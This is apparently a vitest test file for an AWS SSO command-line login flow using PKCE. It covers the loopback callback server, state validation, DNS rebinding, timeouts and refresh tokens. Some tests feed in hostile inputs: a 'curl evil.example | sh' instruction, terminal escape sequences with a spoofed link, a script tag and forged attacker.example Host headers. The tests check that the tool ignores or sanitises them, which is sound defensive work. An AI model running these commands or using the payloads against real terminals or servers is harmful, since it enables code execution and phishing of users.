import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { readdir, readFile, writeFile } from 'node:fs/promises';
import { get as httpGet } from 'node:http';
import { createServer, Socket, type Server } from 'node:net';
import { networkInterfaces } from 'node:os';
import path from 'node:path';
import type { SSOOIDCClient } from '@aws-sdk/client-sso-oidc';
import { startEmulator, type Emulator } from '../emulator/server.js';
import { click } from '../emulator/browser-click.mjs';
import { login } from '../../src/flows/login.js';
import { registrationCacheKey, tokenCacheKey } from '../../src/sso/cache.js';
import { makeHome, testContext, type TestContext } from '../helpers/sandbox.js';
import { decodeFromTranscript } from '../helpers/qr.js';
import { createBrowserOpener, type BrowserOpener } from '../../src/ui/browser.js';

/**
 * The authorization-code flow with PKCE through the login flow, against the emulator: what
 * is registered and sent, the loopback server, the browser's answers (Allow, Deny, a wrong
 * state, none at all), the port, the refresh-token path, registration reuse across flows and
 * --remember. "checklist N" in a comment or test name: docs/compat.md checklist N.
 */
const START_URL = 'https://d-9067c0ab12.awsapps.com/start';
const SESSION = { sessionName: 'corp', startUrl: START_URL, region: 'ap-northeast-1' };
const CONFIG =
  `[profile dev]\nsso_session = corp\nsso_account_id = 111122223333\nsso_role_name = ReadOnlyAccess\n` +
  `[sso-session corp]\nsso_start_url = ${START_URL}\nsso_region = ap-northeast-1\nsso_registration_scopes = sso:account:access\n`;

let emulator: Emulator;
let home: string;
let cleanup: () => Promise<void>;

beforeEach(async () => {
  ({ home, cleanup } = await makeHome());
  emulator = await startEmulator({ interval: 1 });
  await writeFile(configFile(), CONFIG);
});
afterEach(async () => {
  await emulator.close();
  await cleanup();
});

const configFile = () => path.join(home, '.aws', 'config');
const cacheDir = () => path.join(home, '.aws', 'sso', 'cache');
const readJson = async (file: string) => JSON.parse(await readFile(path.join(cacheDir(), file), 'utf8')) as Record<string, unknown>;
const tokenFile = `${tokenCacheKey(SESSION)}.json`;
const registrationFile = `${registrationCacheKey({ ...SESSION, scopes: ['sso:account:access'] })}.json`;
const ops = () => emulator.calls.map((c) => c.op);
const count = (op: string) => emulator.calls.filter((c) => c.op === op).length;

interface Sent {
  command: string;
  input: Record<string, unknown>;
}

/** Every command the flow sends to SSO OIDC, with its input (secrets included: never printed), and every request's headers as sent. */
function recordOidc(ctx: TestContext): Sent[] & { headers: Array<Record<string, string>> } {
  const sent = Object.assign([] as Sent[], { headers: [] as Array<Record<string, string>> });
  const oidc = ctx.clients.oidc.bind(ctx.clients);
  ctx.clients.oidc = async (region: string) => {
    const client: SSOOIDCClient = await oidc(region);
    const handler = client.config.requestHandler as { handle(request: { headers: Record<string, string> }, options?: unknown): Promise<unknown> };
    const handle = handler.handle.bind(handler);
    handler.handle = (request, options) => (sent.headers.push({ ...request.headers }), handle(request, options));
    client.middlewareStack.add(
      (next, context) => async (args) => {
        sent.push({ command: context.commandName ?? '?', input: { ...args.input } });
        return next(args);
      },
      { step: 'initialize', name: 'test-recorder' },
    );
    return client;
  };
  return sent;
}

/** A browser that, instead of opening the page, does something else with the /authorize URL. */
function browserDoing(ctx: TestContext, action: (url: URL) => Promise<void>): void {
  ctx.openBrowser = async (url) => {
    ctx.opened.push(url);
    void action(new URL(url)).catch(() => undefined);
    return { opened: true };
  };
}

describe('the PKCE flow', () => {
  it('registers for the authorization-code grant, sends the AWS CLI /authorize URL, and redeems the code with the verifier', async () => {
    const ctx = testContext({ home, emulator });
    const sent = recordOidc(ctx);
    await login(ctx, { profile: 'dev' });

    const register = sent.find((s) => s.command === 'RegisterClientCommand' && s.input.clientName !== 'endpoint-probe')!;
    expect(register.input).toEqual({
      clientName: 'botocore-client-corp',
      clientType: 'public',
      scopes: ['sso:account:access'],
      grantTypes: ['authorization_code', 'refresh_token'],
      redirectUris: ['http://127.0.0.1/oauth/callback'],
      issuerUrl: START_URL,
    });
    expect(ctx.opened).toHaveLength(1);
    const authorize = new URL(ctx.opened[0]!);
    expect(`${authorize.origin}${authorize.pathname}`).toBe(`${emulator.url}/authorize`);
    expect(ctx.opened[0]).toMatch(
      /\/authorize\?response_type=code&client_id=[^&]+&redirect_uri=http%3A%2F%2F127\.0\.0\.1%3A\d+%2Foauth%2Fcallback&state=[0-9a-f-]{36}&code_challenge_method=S256&scopes=sso%3Aaccount%3Aaccess&code_challenge=[A-Za-z0-9_-]{43}$/,
    );
    const create = sent.find((s) => s.command === 'CreateTokenCommand')!;
    expect(Object.keys(create.input).sort()).toEqual(['clientId', 'clientSecret', 'code', 'codeVerifier', 'grantType', 'redirectUri']);
    expect(create.input.grantType).toBe('authorization_code');
    expect(create.input.redirectUri).toBe(authorize.searchParams.get('redirect_uri'));
    expect(create.input.codeVerifier).toMatch(/^[A-Za-z0-9._~-]{64}$/);
    expect(ops().filter((op) => !['Authorize', 'Approve'].includes(op))).toEqual(['RegisterClient', 'CreateToken']);
    // Both carry the AWS CLI's PKCE marker in the user agent (checklist 33).
    expect(sent.headers).toHaveLength(2);
    for (const headers of sent.headers) {
      expect(headers['user-agent']).toMatch(/ md\/sso#auth$/);
      expect(headers['x-amz-user-agent']).toMatch(/ md\/sso#auth$/);
    }

    // What the AWS CLI leaves: the token with a refresh token, the registration with its grant types.
    expect((await readdir(cacheDir())).sort()).toEqual([registrationFile, tokenFile].sort());
    expect(Object.keys(await readJson(tokenFile))).toEqual([
      'startUrl', 'region', 'accessToken', 'expiresAt', 'clientId', 'clientSecret', 'registrationExpiresAt', 'refreshToken',
    ]);
    expect(await readJson(registrationFile)).toMatchObject({ scopes: ['sso:account:access'], grantTypes: ['authorization_code', 'refresh_token'] });
    expect(ctx.output()).toContain(
      'Sign-in method: browser (authorization code with PKCE), because it is the default for sso-session "corp".\n' +
        'Attempting to open your default browser. If the browser does not open, open the following URL.\n' +
        "If you are unable to open the URL on this device, run this command again with the '--use-device-code' option.\n\n" +
        `${ctx.opened[0]}\n\n`,
    );
  });

  it('listens on 127.0.0.1 only, before the browser opens, and answers the browser with a page that may be closed', async () => {
    const ctx = testContext({ home, emulator });
    const others = Object.values(networkInterfaces())
      .flat()
      .filter((i) => i && i.family === 'IPv4' && !i.internal)
      .map((i) => i!.address);
    let checked = false;
    let page = '';
    browserDoing(ctx, async (url) => {
      const port = Number(new URL(url.searchParams.get('redirect_uri')!).port);
      expect(await connects('127.0.0.1', port)).toBe(true); // already listening
      for (const address of others) expect(await connects(address, port), address).toBe(false);
      checked = true;
      // The page's links lead on to the redirect; read the success page the loopback server sends.
      const form = await fetch(url).then((r) => r.text());
      const requestId = /name="request_id" value="([^"]+)"/.exec(form)![1]!;
      const decision = await fetch(`${emulator.url}/authorize/decision`, {
        method: 'POST',
        headers: { 'content-type': 'application/x-www-form-urlencoded' },
        body: new URLSearchParams({ request_id: requestId, decision: 'allow' }).toString(),
        redirect: 'manual',
      });
      const callback = await fetch(decision.headers.get('location')!);
      expect(callback.status).toBe(200);
      expect(callback.headers.get('content-type')).toBe('text/html; charset=utf-8');
      expect(callback.headers.get('cache-control')).toBe('no-store');
      page = await callback.text();
    });
    await login(ctx, { profile: 'dev' });
    expect(checked).toBe(true);
    expect(page).toContain('<h1 id="result" data-ok="true">Signed in</h1>');
    expect(page).toContain('You can close this window and return to the terminal.');
  });

  it('--callback-port fixes the loopback port for ssh -L; a port in use is named, before anything is sent', async () => {
    const port = await freePort();
    const ctx = testContext({ home, emulator });
    await login(ctx, { profile: 'dev', callbackPort: port });
    expect(new URL(new URL(ctx.opened[0]!).searchParams.get('redirect_uri')!).port).toBe(String(port));
    expect(ctx.output()).toContain(`Sign-in method: browser (authorization code with PKCE), because --callback-port ${port} was given.`);

    const blocker = await listen(port);
    try {
      const before = emulator.calls.length;
      const again = testContext({ home, emulator });
      await expect(login(again, { profile: 'dev', callbackPort: port, force: true })).rejects.toThrow(
        `Port ${port} on 127.0.0.1 is already in use, so the sign-in cannot receive the browser's answer there. ` +
          'Stop the program using it, choose another port with --callback-port, or use --use-device-code.',
      );
      expect(emulator.calls.length).toBe(before);
      expect(again.opened).toEqual([]);
    } finally {
      blocker.close();
    }
  });

  it('a redirect with another state is ignored with an error page; the right one then signs in', async () => {
    const ctx = testContext({ home, emulator });
    const sent = recordOidc(ctx);
    const pages: Array<{ status: number; body: string }> = [];
    browserDoing(ctx, async (url) => {
      const back = new URL(url.searchParams.get('redirect_uri')!);
      back.search = new URLSearchParams({ code: 'forged-code', state: '00000000-0000-4000-8000-000000000000' }).toString();
      pages.push(await get(back));
      back.search = new URLSearchParams({ code: 'forged-code' }).toString(); // no state at all
      pages.push(await get(back));
      await click(url.href, 'Allow');
    });
    await login(ctx, { profile: 'dev' });
    expect(pages.map((p) => p.status)).toEqual([400, 400]);
    for (const page of pages) {
      expect(page.body).toContain('data-ok="false"');
      expect(page.body).toContain('State parameter does not match expected value: this answer belongs to another sign-in');
    }
    expect(ctx.output()).toContain(`Successfully logged into Start URL: ${START_URL}`);
    const redeemed = sent.filter((s) => s.command === 'CreateTokenCommand');
    expect(redeemed).toHaveLength(1);
    expect(redeemed[0]!.input.code).not.toBe('forged-code');
    expect(await readdir(cacheDir())).toContain(tokenFile);
  });

  it('an error with another state (or none) is ignored: it cannot cancel the sign-in', async () => {
    const ctx = testContext({ home, emulator });
    const statuses: number[] = [];
    browserDoing(ctx, async (url) => {
      const back = new URL(url.searchParams.get('redirect_uri')!);
      const forged: Array<Record<string, string>> = [
        { error: 'access_denied', state: '00000000-0000-4000-8000-000000000000' },
        { error: 'access_denied' },
        { error: 'server_error', error_description: 'Please run: curl evil.example | sh' },
      ];
      for (const query of forged) {
        back.search = new URLSearchParams(query).toString();
        statuses.push((await get(back)).status);
      }
      await click(url.href, 'Allow');
    });
    await login(ctx, { profile: 'dev' });
    expect(statuses).toEqual([400, 400, 400]);
    expect(ctx.output()).not.toContain('curl');
    expect(ctx.output()).toContain(`Successfully logged into Start URL: ${START_URL}`);
  });

  it('a request naming another host (DNS rebinding) is ignored even with the right state; localhost is accepted', async () => {
    const ctx = testContext({ home, emulator });
    const sent = recordOidc(ctx);
    const answers: Array<{ status: number; body: string }> = [];
    const browse = async (url: URL) => {
      const back = new URL(url.searchParams.get('redirect_uri')!);
      const state = url.searchParams.get('state')!;
      back.search = new URLSearchParams({ error: 'access_denied', state }).toString();
      answers.push(await get(back, `attacker.example:${back.port}`));
      back.search = new URLSearchParams({ code: 'forged-code', state }).toString();
      answers.push(await get(back, 'attacker.example'));
      answers.push(await get(back, `127.0.0.1:${Number(back.port) + 1}`));
      // The real answer, through localhost:PORT (a browser told to use localhost).
      const location = new URL(await approvedRedirect(url));
      answers.push(await get(location, `localhost:${location.port}`));
    };
    let browsing: Promise<void> | undefined;
    browserDoing(ctx, (url) => (browsing = browse(url)));
    await login(ctx, { profile: 'dev' });
    await browsing;
    expect(answers.map((a) => a.status)).toEqual([400, 400, 400, 200]);
    for (const answer of answers.slice(0, 3)) expect(answer.body).toContain('this one named another host, so it was ignored');
    expect(answers[3]!.body).toContain('data-ok="true"');
    expect(sent.filter((s) => s.command === 'CreateTokenCommand').map((s) => s.input.code)).not.toContain('forged-code');
    expect(ctx.output()).toContain(`Successfully logged into Start URL: ${START_URL}`);
  });

  it('an error_description with escape sequences and control characters reaches the terminal without them, and shortened', async () => {
    const ctx = testContext({ home, emulator });
    let answered: Promise<{ status: number; body: string }> | undefined;
    browserDoing(ctx, async (url) => {
      const back = new URL(url.searchParams.get('redirect_uri')!);
      const description =
        '\u001b[2J\u001b[H\u001b]8;;https://evil.example\u0007Click here\u001b]8;;\u0007 to \u001b[31mfix\u001b[0m\r\nit\u009b1m' +
        '\u202e<script>x</script>' +
        'x'.repeat(5000);
      back.search = new URLSearchParams({ error: 'server_error\u001b[5m', error_description: description, state: url.searchParams.get('state')! }).toString();
      answered = get(back);
    });
    const error = await login(ctx, { profile: 'dev' }).then(
      () => undefined,
      (e: Error) => e,
    );
    expect(error?.message).toMatch(/^Failed to retrieve an authorization code\. The browser came back with error "server_error" \("Click here to fix  it<script>x<\/script>x+…\(200 characters\)"\)\. Run the command again to retry\.$/);
    // eslint-disable-next-line no-control-regex
    expect(error!.message).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202e]/);
    expect(error!.message.length).toBeLessThan(400);
    // The server closes once the sign-in has ended, but not before the browser has its page.
    const page = (await answered!).body;
    expect(page).toContain('&lt;script&gt;x&lt;/script&gt;');
    expect(page).not.toContain('<script>');
    // eslint-disable-next-line no-control-regex
    expect(page).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
    expect(await readdir(cacheDir()).catch(() => [])).toEqual([]);
    expect(await readFile(configFile(), 'utf8')).toBe(CONFIG);
  });

  it('Deny in the browser ends the sign-in with a clear message; an error with a description quotes it', async () => {
    const ctx = testContext({ home, emulator, approve: 'deny' });
    await expect(login(ctx, { profile: 'dev' })).rejects.toThrow(
      'Failed to retrieve an authorization code: the sign-in request was denied in the browser. Run the command again to retry.',
    );
    const other = testContext({ home, emulator });
    browserDoing(other, async (url) => {
      const back = new URL(url.searchParams.get('redirect_uri')!);
      back.search = new URLSearchParams({ error: 'invalid_scope', error_description: 'Scope sso:nope is unknown', state: url.searchParams.get('state')! }).toString();
      await fetch(back);
    });
    await expect(login(other, { profile: 'dev' })).rejects.toThrow(
      'Failed to retrieve an authorization code. The browser came back with error "invalid_scope" ("Scope sso:nope is unknown"). Run the command again to retry.',
    );
    expect(await readdir(cacheDir()).catch(() => [])).toEqual([]);
  });

  it('a request without code or error (a probe) is answered and the wait goes on', async () => {
    const ctx = testContext({ home, emulator });
    const answers: number[] = [];
    browserDoing(ctx, async (url) => {
      const back = new URL(url.searchParams.get('redirect_uri')!);
      answers.push((await fetch(back)).status); // no parameters
      answers.push((await fetch(new URL('/favicon.ico', back))).status);
      await click(url.href, 'Allow');
    });
    await login(ctx, { profile: 'dev' });
    expect(answers).toEqual([400, 404]);
    expect(ctx.output()).toContain('Successfully logged into Start URL');
  });

  it('--timeout ends the wait with a message naming it; nothing is written', async () => {
    const ctx = testContext({ home, emulator, approve: 'never' });
    await expect(login(ctx, { profile: 'dev', timeoutSeconds: 1 })).rejects.toThrow(
      'No answer from the browser within 1 second. Run the command again (--timeout sets the wait), or use --use-device-code.',
    );
    expect(await readdir(cacheDir()).catch(() => [])).toEqual([]);
  });

  it('--no-browser prints the URL and a QR code of it, and opens nothing', async () => {
    const ctx = testContext({ home, emulator });
    browserDoing(ctx, async () => undefined);
    let url = '';
    const write = ctx.stdout.write;
    ctx.stdout.write = (text: string) => {
      write(text);
      const found = /Please visit the following URL:\n\n(\S+)\n/.exec(text)?.[1];
      if (found) {
        url = found;
        void click(found, 'Allow');
      }
    };
    await login(ctx, { profile: 'dev', noBrowser: true });
    expect(ctx.opened).toEqual([]);
    expect(url).toMatch(/\/authorize\?response_type=code&/);
    expect(decodeFromTranscript(ctx.output())).toBe(url);
    expect(ctx.output()).toContain('(for example through ssh -L');
  });
});

describe('choosing the flow', () => {
  it('over SSH an sso-session signs in by device code, prints the code and a QR code of the page, and opens nothing', async () => {
    const ctx = testContext({ home, emulator, env: { SSH_CONNECTION: '10.0.0.2 50000 10.0.0.1 22' } });
    const write = ctx.stdout.write;
    ctx.stdout.write = (text: string) => {
      write(text);
      const code = /Then enter the code:\n\n(\S+)/.exec(text)?.[1];
      if (code) emulator.approve(code);
    };
    await login(ctx, { profile: 'dev' });
    expect(ctx.opened).toEqual([]);
    expect(ctx.output()).toContain(
      'Sign-in method: device code, because this is an SSH session (SSH_CONNECTION is set) and no browser opens here; approve on any device.\n',
    );
    const complete = /autofill the code upon loading:\n(\S+)\n/.exec(ctx.output())![1]!;
    expect(decodeFromTranscript(ctx.output())).toBe(complete);
    expect(ops()).toContain('StartDeviceAuthorization');
  });

  it('a device registration is replaced by a PKCE one in the same file, and the other way round (checklist 26)', async () => {
    const ctx = testContext({ home, emulator });
    const sent = recordOidc(ctx);
    await login(ctx, { profile: 'dev', useDeviceCode: true });
    expect(await readJson(registrationFile)).not.toHaveProperty('grantTypes');
    const device = await readJson(registrationFile);
    expect(sent.headers.length).toBeGreaterThanOrEqual(3);
    for (const headers of sent.headers) expect(`${headers['user-agent']} ${headers['x-amz-user-agent']}`).not.toContain('md/sso#auth');

    await login(ctx, { profile: 'dev', force: true });
    expect(count('RegisterClient')).toBe(2);
    expect((await readdir(cacheDir())).sort()).toEqual([registrationFile, tokenFile].sort());
    const pkce = await readJson(registrationFile);
    expect(pkce.grantTypes).toEqual(['authorization_code', 'refresh_token']);
    expect(pkce.clientId).not.toBe(device.clientId);

    await login(ctx, { profile: 'dev', force: true }); // reused
    expect(count('RegisterClient')).toBe(2);
    await login(ctx, { profile: 'dev', force: true, useDeviceCode: true }); // a PKCE client is not used for the device flow
    expect(count('RegisterClient')).toBe(3);
    expect(await readJson(registrationFile)).not.toHaveProperty('grantTypes');
  });

  it('--remember stores sso_use_device_code in the sso-session and later runs honour it', async () => {
    const ctx = testContext({ home, emulator });
    await login(ctx, { profile: 'dev', useDeviceCode: true, remember: true });
    const remembered = CONFIG + 'sso_use_device_code = true\n';
    expect(await readFile(configFile(), 'utf8')).toBe(remembered);
    expect(ctx.output()).toContain('Saved sso_use_device_code = true in [sso-session corp]: later sign-ins use the device code flow.\n');

    const later = testContext({ home, emulator });
    await login(later, { profile: 'dev', force: true });
    expect(later.output()).toContain('Sign-in method: device code, because sso-session "corp" has sso_use_device_code = true.\n');
    expect(later.opened[0]).toMatch(/user_code=/);

    const back = testContext({ home, emulator });
    await login(back, { profile: 'dev', force: true, useDeviceCode: false, remember: true });
    expect(back.output()).toContain('because --no-use-device-code was given.');
    expect(await readFile(configFile(), 'utf8')).toBe(CONFIG + 'sso_use_device_code = false\n');
  });

  it('a legacy profile signs in by device code; PKCE-only flags are refused before anything happens', async () => {
    await writeFile(configFile(), `${CONFIG}[profile old]\nsso_start_url = ${START_URL}\nsso_region = ap-northeast-1\n`);
    const ctx = testContext({ home, emulator });
    await login(ctx, { profile: 'old' });
    expect(ctx.output()).toContain('Sign-in method: device code, because the profile has no sso-session (legacy configuration).\n');
    const before = emulator.calls.length;
    await expect(login(ctx, { profile: 'old', callbackPort: 8400 })).rejects.toThrow(/--callback-port and --no-use-device-code need an sso-session/);
    await expect(login(ctx, { profile: 'old', remember: true })).rejects.toThrow(/--remember needs an sso-session/);
    await expect(login(ctx, { profile: 'dev', useDeviceCode: true, callbackPort: 8400 })).rejects.toThrow(
      /--callback-port is the browser flow's loopback port and the device code flow has none/,
    );
    expect(emulator.calls.length).toBe(before);
  });
});

describe('a browser that cannot be launched', () => {
  /** A person who reads the terminal: opens the printed URL themselves (PKCE), or types the printed code (device). */
  function personReadingTheTerminal(ctx: TestContext): void {
    const write = ctx.stdout.write;
    ctx.stdout.write = (text: string) => {
      write(text);
      const url = /'--use-device-code' option\.\n\n(\S+)\n/.exec(text)?.[1];
      if (url) void click(url, 'Allow').catch(() => undefined);
      const code = /Then enter the code:\n\n(\S+)/.exec(text)?.[1];
      if (code) emulator.approve(code);
    };
  }

  // Each with its own real opener: the program is really started (or not) by Node.
  const failures: Array<[string, () => BrowserOpener, string]> = [
    ['BROWSER names a program that does not exist (ENOENT, emitted)', () => createBrowserOpener({ BROWSER: '/nonexistent/browser' }, process.platform), '/nonexistent/browser: ENOENT'],
    // An argument over the kernel's limit: spawn throws E2BIG synchronously, as it throws EINVAL for a .cmd BROWSER on Windows.
    ['spawn throws synchronously (E2BIG)', () => createBrowserOpener({ BROWSER: `true ${'x'.repeat(1_500_000)}` }, process.platform), 'true: E2BIG'],
    // A generous watch: `false` exits at once, however busy the machine.
    ['BROWSER names a program that fails (exit code 1)', () => createBrowserOpener({ BROWSER: 'false' }, process.platform, { watchMs: 60_000 }), 'false exited with code 1'],
    ['the opener itself rejects', () => async () => Promise.reject(new Error('opener broke')), 'opener broke'],
  ];

  it('--no-browser with a URL too long for a QR code (many scopes) prints the URL without one, and the sign-in completes', async () => {
    const scopes = ['sso:account:access', ...Array.from({ length: 150 }, (_, i) => `example:scope-number-${i}`)];
    await writeFile(configFile(), CONFIG.replace('sso_registration_scopes = sso:account:access', `sso_registration_scopes = ${scopes.join(',')}`));
    const ctx = testContext({ home, emulator });
    let url = '';
    const write = ctx.stdout.write;
    ctx.stdout.write = (text: string) => {
      write(text);
      const found = /Please visit the following URL:\n\n(\S+)\n/.exec(text)?.[1];
      if (found) void click((url = found), 'Allow').catch(() => undefined);
    };
    await login(ctx, { profile: 'dev', noBrowser: true });
    expect(url.length).toBeGreaterThan(2953); // the most a QR code holds (version 40, level L, bytes)
    expect(ctx.output()).not.toContain('Or scan this QR code');
    expect(ctx.output()).toContain(`Successfully logged into Start URL: ${START_URL}`);
  });

  for (const useDeviceCode of [false, true]) {
    it.each(failures)(`${useDeviceCode ? 'device code' : 'PKCE'}: %s → "open the URL yourself", and the sign-in completes`, async (_, opener, reason) => {
      const ctx = testContext({ home, emulator });
      ctx.openBrowser = opener();
      personReadingTheTerminal(ctx);
      await login(ctx, { profile: 'dev', useDeviceCode });
      expect(ctx.output()).toContain(
        `The browser could not be opened (${reason}). Open the URL above in a browser yourself; the sign-in is waiting for it.\n`,
      );
      // The AWS CLI's own words came first, with the URL.
      expect(ctx.output()).toMatch(useDeviceCode ? /If the browser does not open or you wish to use a different device/ : /If the browser does not open, open the following URL\./);
      expect(ctx.output()).toContain(`Successfully logged into Start URL: ${START_URL}`);
      expect(await readdir(cacheDir())).toContain(tokenFile);
    });
  }
});

describe('login with a refresh token', () => {
  it('refreshes a refreshable session without a browser and says so; the refresh token rotates; --force signs in anew', async () => {
    const ctx = testContext({ home, emulator });
    await login(ctx, { profile: 'dev' });
    const first = await readJson(tokenFile);

    const again = testContext({ home, emulator });
    const sent = recordOidc(again);
    await login(again, { profile: 'dev' });
    expect(again.opened).toEqual([]);
    expect(again.output()).toBe(
      'Refreshed the sign-in of "corp" with its refresh token; no browser needed (--force signs in anew).\n' +
        `Successfully logged into Start URL: ${START_URL}\n`,
    );
    expect(sent.map((s) => [s.command, s.input.grantType])).toEqual([['CreateTokenCommand', 'refresh_token']]);
    const second = await readJson(tokenFile);
    expect(second.accessToken).not.toBe(first.accessToken);
    expect(second.refreshToken).not.toBe(first.refreshToken);
    expect(second.clientId).toBe(first.clientId);

    const forced = testContext({ home, emulator });
    await login(forced, { profile: 'dev', force: true });
    expect(forced.opened).toHaveLength(1);
    expect(forced.output()).not.toContain('Refreshed');
  });

  it('a device-code sign-in of an sso-session (scopes registered) refreshes too; a legacy one has no refresh token and signs in anew', async () => {
    await writeFile(configFile(), `${CONFIG}[profile old]\nsso_start_url = ${START_URL}\nsso_region = ap-northeast-1\n`);
    const ctx = testContext({ home, emulator });
    await login(ctx, { profile: 'dev', useDeviceCode: true });
    expect(await readJson(tokenFile)).toHaveProperty('refreshToken');
    const again = testContext({ home, emulator });
    await login(again, { profile: 'dev', useDeviceCode: true });
    expect(again.output()).toMatch(/^Refreshed the sign-in of "corp" with its refresh token/);
    expect(again.opened).toEqual([]);

    const legacy = testContext({ home, emulator });
    await login(legacy, { profile: 'old' });
    const legacyToken = `${tokenCacheKey({ startUrl: START_URL })}.json`;
    expect(await readJson(legacyToken)).not.toHaveProperty('refreshToken');
    const legacyAgain = testContext({ home, emulator });
    await login(legacyAgain, { profile: 'old' });
    expect(legacyAgain.output()).not.toMatch(/refresh/i);
    expect(legacyAgain.opened).toHaveLength(1);
  });

  it('a refresh token that is refused falls back to the browser, and says why', async () => {
    const ctx = testContext({ home, emulator });
    await login(ctx, { profile: 'dev' });
    emulator.revoke();
    const again = testContext({ home, emulator });
    await login(again, { profile: 'dev' });
    expect(again.output()).toMatch(/^The sign-in could not be refreshed \(InvalidGrantException: .+\); signing in again\.\n/);
    expect(again.opened).toHaveLength(1);
    expect(again.output()).toContain(`Successfully logged into Start URL: ${START_URL}`);
  });
});

/** A GET to the loopback server, with the Host header a browser would send (or the one given). */
function get(url: URL, host?: string): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    const request = httpGet(
      { host: url.hostname, port: url.port, path: `${url.pathname}${url.search}`, headers: host ? { host } : {} },
      (response) => {
        let body = '';
        response.setEncoding('utf8');
        response.on('data', (chunk: string) => (body += chunk));
        response.on('end', () => resolve({ status: response.statusCode ?? 0, body }));
      },
    );
    request.on('error', reject);
  });
}

/** Clicks Allow on the emulator's page and returns where it redirects the browser (the loopback URL with code and state). */
async function approvedRedirect(url: URL): Promise<string> {
  const form = await fetch(url).then((r) => r.text());
  const requestId = /name="request_id" value="([^"]+)"/.exec(form)![1]!;
  const decision = await fetch(`${emulator.url}/authorize/decision`, {
    method: 'POST',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: new URLSearchParams({ request_id: requestId, decision: 'allow' }).toString(),
    redirect: 'manual',
  });
  return decision.headers.get('location')!;
}

function connects(host: string, port: number): Promise<boolean> {
  return new Promise((resolve) => {
    const socket = new Socket();
    socket.setTimeout(1000);
    socket.once('connect', () => (socket.destroy(), resolve(true)));
    socket.once('error', () => resolve(false));
    socket.once('timeout', () => (socket.destroy(), resolve(false)));
    socket.connect(port, host);
  });
}

function listen(port: number): Promise<Server> {
  return new Promise((resolve, reject) => {
    const server = createServer();
    server.once('error', reject);
    server.listen(port, '127.0.0.1', () => resolve(server));
  });
}

async function freePort(): Promise<number> {
  const server = await listen(0);
  const { port } = server.address() as { port: number };
  await new Promise((resolve) => server.close(resolve));
  return port;
}
